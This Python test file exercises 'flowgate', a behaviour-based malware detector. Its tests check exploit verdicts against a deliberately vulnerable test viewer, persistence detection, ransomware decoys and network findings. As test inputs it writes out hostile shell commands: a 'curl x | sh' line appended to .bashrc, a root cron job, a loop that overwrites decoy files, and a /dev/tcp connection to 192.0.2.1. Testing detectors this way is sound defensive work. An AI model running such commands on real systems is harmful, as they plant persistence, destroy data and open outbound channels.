#!/usr/bin/env python3
"""
test_flow.py - end-to-end tests of execution-flow whitelisting: `flowgate learn`, `detonate`,
`run` and `profile`, the real binary on documents made at test time.

The handler is fgview, the deliberately vulnerable viewer of tests/flow/ (built test-only,
docs/internals/fgview.md); tests/flow/make_docs.py writes its benign documents and its
working exploits from the viewer that was just built.  A profile is learnt on the manifest's
learn set; every held-out benign document must then detonate clean and every exploit
malicious, with the findings its class calls for.  Profiles merge, a broken profile is an
error, `flowgate run` reports persistence, ransomware and network behaviour, and the
built-in pdf handler (pdftoppm) learns from small PDFs written here.  Every run is checked
for signals and sanitizer reports.

Usage: test_flow.py --flowgate PATH --viewer PATH_TO_FGVIEW [-k SUBSTRING]... [-v]
Prints "N passed, N failed[, N skipped]" last and exits non-zero if any test failed.
"""
import argparse
import json
import os
import shutil
import subprocess
import sys
import tempfile
import unittest
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
sys.dont_write_bytecode = True
import runner  # noqa: E402

FLOWGATE = None  # set by main()
VIEWER = None
__unittest = True
RUN_TIMEOUT = 600
JSON_KEYS = ("path", "sha256", "handler", "verdict", "findings", "behaviour", "flow")

# What each exploit class must show beyond a malicious verdict (docs/internals/fgview.md).
EXPLOIT_FINDINGS = {
    "stack-shellcode": ["flow.code-origin"],
    "rop-system": ["flow.rop"],
    "fnptr-debug": ["flow.new-call"],
    "fnptr-system-zlib": ["flow.new-call"],
    "path-traversal": ["flow.new-call"],
    "path-absolute": ["flow.new-call"],
    "connect-out": ["flow.code-origin"],
    "mmap-stage2": ["flow.code-origin"],
    "rop-mprotect": ["flow.new-call"],
}


def flowgate(args, cwd=None, timeout=RUN_TIMEOUT):
    """Runs flowgate; returns (exit status, stdout, stderr) after checking it was not killed
    and printed no sanitizer report."""
    p = subprocess.run([FLOWGATE] + [str(a) for a in args], cwd=cwd, stdout=subprocess.PIPE,
                       stderr=subprocess.PIPE, timeout=timeout)
    out = p.stdout.decode("utf-8", "replace")
    err = p.stderr.decode("utf-8", "replace")
    runner.check_run(p.returncode, err, " ".join(str(a) for a in args)[:300])
    return p.returncode, out, err


def json_lines(out):
    return [json.loads(line) for line in out.splitlines() if line.strip()]


def viewer_args():
    """The fgview handler: the viewer made visible inside the sandbox with --bind."""
    return ["--exec", "%s {}" % VIEWER, "--handler", "fgview", "--bind", os.path.dirname(VIEWER),
            "--no-progress"]


def profile_info(path):
    rc, out, err = flowgate(["profile", "info", "--json", path])
    assert rc == 0, err
    return json_lines(out)[0]["info"]


def ids(result):
    return {f["id"] for f in result["findings"]}


# ---------------------------------------------------------------- minimal PDFs

def pdf_string(text):
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("latin-1")


def make_pdf(pages):
    """A small valid PDF: one Helvetica text line and a filled rectangle per page, with a
    correct cross-reference table."""
    n = len(pages)
    page_ids = [4 + 2 * i for i in range(n)]
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + b" ".join(b"%d 0 R" % k for k in page_ids) +
            b"] /Count %d >>" % n,
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    for i, text in enumerate(pages):
        content = (b"BT /F1 %d Tf 72 720 Td (" % (14 + 2 * i) + pdf_string(text) + b") Tj ET\n"
                   b"0.%d 0.4 0.8 rg 72 %d 200 50 re f\n" % (i + 1, 600 - 40 * i))
        objs.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
                    b"/Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R >>"
                    % (page_ids[i] + 1))
        objs.append(b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream")
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for k, o in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % k + o + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return out


# ---------------------------------------------------------------- the fgview evaluation

class Detonation(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.TemporaryDirectory(prefix="fg-flow-")
        cls.dir = Path(cls.tmp.name)
        docs = cls.dir / "docs"
        p = subprocess.run([sys.executable, str(HERE.parent / "flow" / "make_docs.py"), str(docs),
                            "--viewer", VIEWER], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        assert p.returncode == 0, p.stderr.decode()
        manifest = json.loads((docs / "manifest.json").read_text())
        entries = manifest["documents"]
        cls.learn = [docs / d["name"] for d in entries if d.get("set") == "learn"]
        cls.holdout = [docs / d["name"] for d in entries if d.get("set") == "holdout"]
        cls.exploits = {d["class"]: docs / d["name"] for d in entries if d["kind"] == "exploit"}
        cls.profile = cls.dir / "fgview.profile"
        cls.learnt = flowgate(["learn"] + viewer_args() + ["--profile", cls.profile] + cls.learn)

    @classmethod
    def tearDownClass(cls):
        cls.tmp.cleanup()

    def detonate(self, docs, *extra, profile=None):
        return flowgate(["detonate", "--json"] + viewer_args() + list(extra) +
                        ["--profile", profile or self.profile] + list(docs))

    def test_learn(self):
        rc, out, err = self.learnt
        self.assertEqual(rc, 0, err)
        self.assertEqual(len(self.learn), 80)
        self.assertIn("80 document(s) learnt, 0 not benign, 0 failed", err)
        info = profile_info(self.profile)
        self.assertEqual(info["documents"], 80)
        self.assertEqual(info["handler"], "fgview")
        self.assertEqual(info["runs_with_violations"], 0)
        self.assertGreater(info["nodes"], 10)
        self.assertGreater(info["edges"], 10)
        # The text form names the same numbers.
        rc, out, err = flowgate(["profile", "info", self.profile])
        self.assertEqual(rc, 0, err)
        self.assertIn('"documents":80', out)
        # --json stays JSON whatever the file is called.
        odd = self.dir / 'a "quoted" \\ name.profile'
        shutil.copyfile(self.profile, odd)
        rc, out, err = flowgate(["profile", "info", "--json", odd])
        self.assertEqual(rc, 0, err)
        r = json_lines(out)[0]
        self.assertEqual((r["path"], r["info"]["documents"]), (str(odd), 80))

    def test_holdout_clean(self):
        rc, out, err = self.detonate(self.holdout)
        results = json_lines(out)
        self.assertEqual(len(results), 40)
        for r in results:
            with self.subTest(r["path"]):
                self.assertEqual(r["verdict"], "clean", json.dumps(r["findings"], indent=1))
                for k in JSON_KEYS:
                    self.assertIn(k, r)
                self.assertEqual(r["behaviour"]["exit_code"], 0)
                self.assertEqual(r["behaviour"]["violations"], [])
        self.assertEqual(rc, 0, err)

    def test_exploits_malicious(self):
        self.assertEqual(set(self.exploits), set(EXPLOIT_FINDINGS))
        for cls, doc in sorted(self.exploits.items()):
            with self.subTest(cls):
                rc, out, err = self.detonate([doc])
                self.assertEqual(rc, 1, err)
                r = json_lines(out)[0]
                for k in JSON_KEYS:
                    self.assertIn(k, r)
                self.assertEqual(r["path"], str(doc))
                self.assertEqual(len(r["sha256"]), 64)
                self.assertEqual(r["handler"], "fgview")
                self.assertEqual(r["verdict"], "malicious")
                for want in EXPLOIT_FINDINGS[cls]:
                    self.assertIn(want, ids(r), json.dumps(r["findings"], indent=1))
                if cls == "connect-out":
                    self.assertTrue(any("192.0.2.1:443" in n for n in r["behaviour"]["network"]),
                                    r["behaviour"]["network"])
                    self.assertEqual(r["behaviour"]["exit_code"], 42)
                if cls == "rop-mprotect":
                    # The data segment turned executable is itself a call never seen.
                    ev = [f["evidence"] for f in r["findings"] if f["id"] == "flow.new-call"]
                    self.assertIn("mprotect prot=rwx", ev[0])
                if cls in ("path-traversal", "path-absolute"):
                    self.assertTrue(any("/tmp/" in w for w in r["behaviour"]["files_written"]))
                self.assertTrue(r["flow"]["deviations"] or r["behaviour"]["violations"])

    def test_text_output(self):
        rc, out, err = flowgate(["detonate"] + viewer_args() + ["--profile", self.profile,
                                                                self.exploits["stack-shellcode"]])
        self.assertEqual(rc, 1, err)
        self.assertIn(": malicious", out.splitlines()[0])
        self.assertIn("critical flow.code-origin", " ".join(out.split()))
        self.assertIn("programs started", out)
        # -q prints clean documents not at all.
        rc, out, err = flowgate(["detonate", "-q"] + viewer_args() +
                                ["--profile", self.profile, self.holdout[0]])
        self.assertEqual((rc, out), (0, ""), err)

    def test_dot(self):
        dot = self.dir / "flow.dot"
        rc, out, err = self.detonate([self.exploits["fnptr-debug"]], "--dot", dot)
        self.assertEqual(rc, 1, err)
        text = dot.read_text()
        self.assertTrue(text.startswith("digraph flow {"), text[:200])
        self.assertTrue(text.rstrip().endswith("}"))
        self.assertIn("color=red", text)      # the new kind: execve of a shell
        self.assertIn("execve", text)
        self.assertIn(" -> ", text)           # and the path that led there

    def test_merge_halves(self):
        halves = [self.dir / "half-a.profile", self.dir / "half-b.profile"]
        for path, docs in zip(halves, (self.learn[:40], self.learn[40:])):
            rc, out, err = flowgate(["learn"] + viewer_args() + ["--profile", path] + docs)
            self.assertEqual(rc, 0, err)
        merged = self.dir / "merged.profile"
        rc, out, err = flowgate(["profile", "merge", "-o", merged] + halves)
        self.assertEqual(rc, 0, err)
        whole, m = profile_info(self.profile), profile_info(merged)
        for k in ("documents", "nodes", "edges", "call_kinds", "nodes_per_kind"):
            self.assertEqual(m[k], whole[k], k)
        # The merged profile judges like the one learnt on everything.
        rc, out, err = self.detonate([self.holdout[1], self.exploits["path-traversal"]],
                                     profile=merged)
        self.assertEqual([r["verdict"] for r in json_lines(out)], ["clean", "malicious"])
        # Another handler's profile does not merge.
        other = self.dir / "other.profile"
        data = json.loads(Path(halves[0]).read_text())
        data["handler"] = "pdf"
        other.write_text(json.dumps(data))
        rc, out, err = flowgate(["profile", "merge", "-o", self.dir / "x.profile", halves[0], other])
        self.assertEqual(rc, 2)
        self.assertIn("another handler", err)

    def test_broken_profile(self):
        text = self.profile.read_bytes()
        cases = {
            "truncated": (text[:len(text) // 2], "not JSON"),
            "garbage": (b"\x00\x01 not a profile", "not JSON"),
            "version": (text.replace(b'"version":1', b'"version":9', 1), "version 9"),
            "tampered": (None, "node id does not match"),
        }
        data = json.loads(text)
        data["nodes"][0]["class"] = "elsewhere:wc"  # a forged node under an old id
        cases["tampered"] = (json.dumps(data).encode(), cases["tampered"][1])
        for name, (blob, message) in cases.items():
            with self.subTest(name):
                bad = self.dir / ("broken-%s.profile" % name)
                bad.write_bytes(blob)
                rc, out, err = self.detonate([self.holdout[0]], profile=bad)
                self.assertEqual(rc, 2)
                self.assertIn(message, err)
                if name != "tampered":
                    self.assertIn(str(bad), err)
                self.assertEqual(out, "")
                rc, out, err = flowgate(["profile", "info", bad])
                self.assertEqual(rc, 2)
                self.assertIn(message, err)
        rc, out, err = self.detonate([self.holdout[0]], profile=self.dir / "missing.profile")
        self.assertEqual(rc, 2)
        self.assertIn("missing.profile", err)


# ---------------------------------------------------------------- flowgate run

class Run(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.TemporaryDirectory(prefix="fg-run-")
        cls.dir = Path(cls.tmp.name)

    @classmethod
    def tearDownClass(cls):
        cls.tmp.cleanup()

    def run_json(self, *args):
        rc, out, err = flowgate(["run", "--json"] + list(args))
        r = json_lines(out)
        self.assertEqual(len(r), 1, err)
        # A run that could not be carried out has an error instead of behaviour and flow.
        for k in JSON_KEYS[:5] if r[0]["verdict"] == "error" else JSON_KEYS:
            self.assertIn(k, r[0])
        return rc, r[0]

    def test_true_clean(self):
        rc, r = self.run_json("--", "/bin/true")
        self.assertEqual((rc, r["verdict"]), (0, "clean"))
        self.assertEqual(r["behaviour"]["exit_code"], 0)
        self.assertIsNone(r["sha256"])
        rc, out, err = flowgate(["run", "--", "/bin/true"])
        self.assertEqual(rc, 0, err)
        self.assertTrue(out.startswith("/bin/true: clean"), out)

    def test_persistence(self):
        for name, script, where in (
                ("bashrc", "echo 'curl x | sh' >> ~/.bashrc", "/work/.bashrc"),
                ("cron", "echo '* * * * * root sh /tmp/x' > /etc/cron.d/update", "/etc/cron.d/update"),
                ("cron-dotdot", "cd /tmp && echo x > ../etc/cron.d/y", "/etc/cron.d/y")):
            with self.subTest(name):
                rc, r = self.run_json("--", "/bin/sh", "-c", script)
                self.assertEqual((rc, r["verdict"]), (1, "malicious"), r["findings"])
                f = [f for f in r["findings"] if f["id"] == "flow.persistence"]
                self.assertEqual(len(f), 1, r["findings"])
                self.assertEqual(f[0]["severity"], "high")
                self.assertIn(where, f[0]["evidence"])
                self.assertTrue(any(where in p for p in r["behaviour"]["persistence"]))

    def test_decoys_ransomware(self):
        decoys = self.dir / "decoys"
        decoys.mkdir()
        for i, ext in enumerate(("docx", "xlsx", "pdf", "jpg", "txt", "odt")):
            (decoys / ("file%d.%s" % (i, ext))).write_bytes(os.urandom(64) + b"decoy %d" % i)
        rc, r = self.run_json("--decoys", decoys, "--", "/bin/sh", "-c",
                              "for f in /work/file*; do echo encrypted > \"$f\"; done")
        self.assertEqual((rc, r["verdict"]), (1, "malicious"), r["findings"])
        self.assertIn("flow.ransomware", ids(r))
        self.assertEqual(r["behaviour"]["decoys"], {"total": 6, "changed": 6, "gone": 0})
        # Deleting them is the same; reading them is not.
        rc, r = self.run_json("--decoys", decoys, "--", "/bin/sh", "-c", "rm /work/file*")
        self.assertIn("flow.ransomware", ids(r))
        self.assertEqual(r["behaviour"]["decoys"]["gone"], 6)
        rc, r = self.run_json("--decoys", decoys, "--", "/bin/sh", "-c", "cat /work/file* > /dev/null")
        self.assertEqual((rc, r["verdict"]), (0, "clean"), r["findings"])
        self.assertEqual(r["behaviour"]["decoys"], {"total": 6, "changed": 0, "gone": 0})

    def test_network(self):
        rc, r = self.run_json("--", "/bin/bash", "-c", "echo hi > /dev/tcp/192.0.2.1/443")
        self.assertEqual((rc, r["verdict"]), (1, "suspicious"), r["findings"])
        f = [f for f in r["findings"] if f["id"] == "run.network"]
        self.assertEqual(f[0]["severity"], "medium")
        self.assertIn("192.0.2.1:443", f[0]["evidence"])
        self.assertTrue(any("inet:public:https 192.0.2.1:443" in n for n in r["behaviour"]["network"]))

    def test_processes(self):
        rc, r = self.run_json("--", "/bin/sh", "-c", "/bin/true && /bin/echo hi > /work/out")
        self.assertEqual(rc, 0, r["findings"])
        self.assertTrue(any("/bin/true" in p for p in r["behaviour"]["processes"]))
        self.assertIn("run.processes", ids(r))

    def test_usage_errors(self):
        rc, out, err = flowgate(["run"])
        self.assertEqual(rc, 2)
        rc, out, err = flowgate(["run", "--profile", "x", "--", "/bin/true"])
        self.assertEqual(rc, 2)
        rc, r = self.run_json("--", "/no/such/program")
        self.assertEqual((rc, r["verdict"]), (2, "error"))
        self.assertIn("cannot execute /no/such/program", r["error"])
        rc, out, err = flowgate(["run", "--", "/no/such/program"])
        self.assertEqual(rc, 2)
        self.assertIn("cannot execute", out)


# ---------------------------------------------------------------- the pdf handler

@unittest.skipUnless(shutil.which("pdftoppm"), "pdftoppm (poppler-utils) is not installed")
class PdfHandler(unittest.TestCase):
    def test_learn_and_detonate(self):
        with tempfile.TemporaryDirectory(prefix="fg-pdf-") as tmp:
            d = Path(tmp)
            texts = [["Quarterly report"], ["Invoice 2024-117", "Terms and conditions"],
                     ["Meeting minutes", "Action items", "Appendix"], ["Delivery note", "Page two"]]
            paths = []
            for i, pages in enumerate(texts):
                p = d / ("doc%d.pdf" % i)
                p.write_bytes(make_pdf(pages))
                paths.append(p)
            profile = d / "pdf.profile"
            rc, out, err = flowgate(["learn", "--handler", "pdf", "--no-progress", "--profile",
                                     profile] + paths[:3])
            self.assertEqual(rc, 0, err)
            self.assertIn("3 document(s) learnt", err)
            info = profile_info(profile)
            self.assertEqual((info["handler"], info["documents"]), ("pdf", 3))
            self.assertGreater(info["nodes_per_kind"]["file-write"], 0)  # the page images
            rc, out, err = flowgate(["detonate", "--json", "--handler", "pdf", "--profile",
                                     profile, paths[3]])
            self.assertEqual(rc, 0, err)
            r = json_lines(out)[0]
            self.assertEqual(r["verdict"], "clean", r["findings"])
            self.assertEqual(r["handler"], "pdf")
            self.assertEqual(r["behaviour"]["exit_code"], 0)
            self.assertTrue(any("/work/page" in w for w in r["behaviour"]["files_written"]))

            # flowgate scan --dynamic: the PDF inside a zip is detonated with the profile found
            # as <handler>.prof, and its findings join the static scan's; the zip itself and
            # the text beside it have no handler and are not run.
            profiles = d / "profiles"
            profiles.mkdir()
            shutil.copy(profile, profiles / "pdf.prof")
            bundle = d / "bundle.zip"
            with zipfile.ZipFile(bundle, "w") as z:
                z.write(paths[3], "invoices/delivery.pdf")
                z.writestr("readme.txt", "Delivery note attached.\n")
            rc, out, err = flowgate(["scan", "--json", "--no-progress", "--dynamic", "--profiles",
                                     profiles, bundle])
            self.assertEqual(rc, 0, err)
            r = json_lines(out)[0]
            self.assertEqual(r["verdict"], "clean")
            ran = {o["path"]: [f for f in o["findings"] if f["id"] == "flow.detonated"]
                   for o in r["objects"]}
            pdf = [p for p in ran if p.endswith("invoices/delivery.pdf")]
            self.assertEqual(len(pdf), 1, list(ran))
            self.assertEqual(len(ran[pdf[0]]), 1, r["objects"])
            self.assertIn("pdftoppm", ran[pdf[0]][0]["evidence"])
            self.assertEqual(sum(len(v) for v in ran.values()), 1)  # nothing else was run
            rc, out, err = flowgate(["scan", "--dynamic", "--profiles", d / "none", bundle])
            self.assertEqual(rc, 2)
            self.assertIn("--profiles", err)


def main():
    global FLOWGATE, VIEWER
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--flowgate", required=True, help="the flowgate binary to test")
    ap.add_argument("--viewer", required=True, help="tests/flow's fgview, as built")
    ap.add_argument("-k", action="append", default=[], help="run tests whose id has this substring")
    ap.add_argument("-v", action="store_true", help="one line per test")
    a = ap.parse_args()
    FLOWGATE = str(Path(a.flowgate).resolve())
    VIEWER = str(Path(a.viewer).resolve())
    return runner.run_suite((Detonation, Run, PdfHandler), a.k, a.v, "e2e flow")


if __name__ == "__main__":
    sys.exit(main())
